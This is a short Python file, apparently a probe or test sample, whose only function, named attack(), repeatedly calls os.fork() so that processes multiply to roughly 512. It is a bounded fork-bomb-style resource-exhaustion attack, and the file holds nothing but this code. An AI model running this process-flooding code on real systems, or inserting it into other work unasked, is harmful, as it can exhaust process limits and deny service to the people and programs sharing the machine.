# ruff: noqa
# tries: every process starts two more

import os


def attack():
    for _ in range(8):
        os.fork()
    return len([os.fork() for _ in range(1)]) == 1 and os.getpid() > 256
